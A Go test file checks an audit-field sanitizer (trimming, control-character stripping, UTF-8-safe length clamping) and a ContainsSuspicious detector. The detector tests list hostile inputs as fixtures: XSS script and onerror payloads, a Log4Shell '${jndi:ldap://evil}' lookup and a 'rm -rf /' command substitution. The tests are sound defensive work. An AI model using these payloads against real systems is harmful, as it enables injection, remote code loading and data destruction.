package util

import (
	"strings"
	"testing"
	"unicode/utf8"
)

func TestSanitizeAuditField(t *testing.T) {
	tests := []struct {
		name string
		in   string
		want string
	}{
		{"plain", "ThinkPad T14", "ThinkPad T14"},
		{"trims whitespace", "  hello  ", "hello"},
		{"strips newlines", "line one\nline two", "line oneline two"},
		{"strips control chars", "a\x00b\x1bc", "abc"},
		{"empty", "", ""},
		{"only whitespace", "   \t\n  ", ""},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := SanitizeAuditField(tt.in); got != tt.want {
				t.Errorf("SanitizeAuditField(%q) = %q, want %q", tt.in, got, tt.want)
			}
		})
	}
}

func TestSanitizeAuditFieldClampsLength(t *testing.T) {
	long := strings.Repeat("x", 2000)
	if got := SanitizeAuditField(long); len(got) != 500 {
		t.Errorf("len = %d, want 500", len(got))
	}
}

func TestSanitizeAuditFieldClampsOnRuneBoundary(t *testing.T) {
	tests := []struct {
		name string
		in   string
		want string
	}{
		{"two-byte rune straddles the cut", strings.Repeat("a", 499) + "é", strings.Repeat("a", 499)},
		{"two-byte rune ends exactly at the cut", strings.Repeat("a", 498) + "éxxxx", strings.Repeat("a", 498) + "é"},
		{"four-byte rune straddles the cut", strings.Repeat("a", 497) + "\U0001F527xxxx", strings.Repeat("a", 497)},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := SanitizeAuditField(tt.in)
			if !utf8.ValidString(got) {
				t.Fatalf("SanitizeAuditField returned invalid UTF-8: %q", got)
			}
			if got != tt.want {
				t.Errorf("SanitizeAuditField clamp = %q, want %q", got, tt.want)
			}
			if len(got) > 500 {
				t.Errorf("len = %d, want <= 500", len(got))
			}
		})
	}
}

func TestContainsSuspicious(t *testing.T) {
	tests := []struct {
		in   string
		want bool
	}{
		{"Pat Doe", false},
		{"screen cracked, quoted $120", false},
		{"<script>alert(1)</script>", true},
		{"<SCRIPT>alert(1)</SCRIPT>", true},
		{"<img onerror=alert(1)>", true},
		{"${jndi:ldap://evil}", true},
		{"`rm -rf /`", true},
	}

	for _, tt := range tests {
		if got := ContainsSuspicious(tt.in); got != tt.want {
			t.Errorf("ContainsSuspicious(%q) = %v, want %v", tt.in, got, tt.want)
		}
	}
}
